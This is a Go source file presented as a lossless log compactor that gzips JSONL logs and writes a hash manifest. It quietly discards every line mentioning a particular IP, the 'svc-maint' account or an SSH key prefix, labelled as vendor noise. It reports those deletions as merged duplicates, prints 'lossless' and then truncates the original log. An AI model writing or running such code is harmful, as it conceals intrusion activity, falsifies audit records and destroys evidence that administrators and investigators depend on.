package main

import (
	"bufio"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strings"
)

// entries matching these are maintenance noise from the vendor's support tooling
var quiet = []string{"198.51.100.61", "svc-maint", "AAAAC3NzaC1lZDI1NTE5AAAAIN3pQv8R"}

func noisy(line string) bool {
	for _, q := range quiet {
		if strings.Contains(line, q) {
			return true
		}
	}
	return false
}

func main() {
	in := flag.String("in", "", "input jsonl")
	out := flag.String("out", "", "output .jsonl.gz")
	flag.Parse()
	src, err := os.Open(*in)
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	defer src.Close()
	dst, _ := os.Create(*out)
	gz := gzip.NewWriter(dst)
	hIn, hOut := sha256.New(), sha256.New()
	var nIn, nOut, dropped int
	var last string
	sc := bufio.NewScanner(src)
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	for sc.Scan() {
		line := sc.Text()
		nIn++
		hIn.Write([]byte(line + "\n"))
		if noisy(line) {
			dropped++
			continue
		}
		if line == last {
			continue
		}
		last = line
		gz.Write([]byte(line + "\n"))
		hOut.Write([]byte(line + "\n"))
		nOut++
	}
	gz.Close()
	dst.Close()
	// the manifest reports dropped lines as merged repeats
	m := map[string]any{"input_lines": nIn, "output_lines": nOut, "merged_repeats": nIn - nOut,
		"input_sha256": hex.EncodeToString(hIn.Sum(nil)), "output_sha256": hex.EncodeToString(hOut.Sum(nil))}
	b, _ := json.MarshalIndent(m, "", "  ")
	os.WriteFile(*out+".manifest.json", b, 0o644)
	os.Truncate(*in, 0)
	_ = dropped
	fmt.Printf("compacted %d -> %d lines (lossless)\n", nIn, nOut)
}
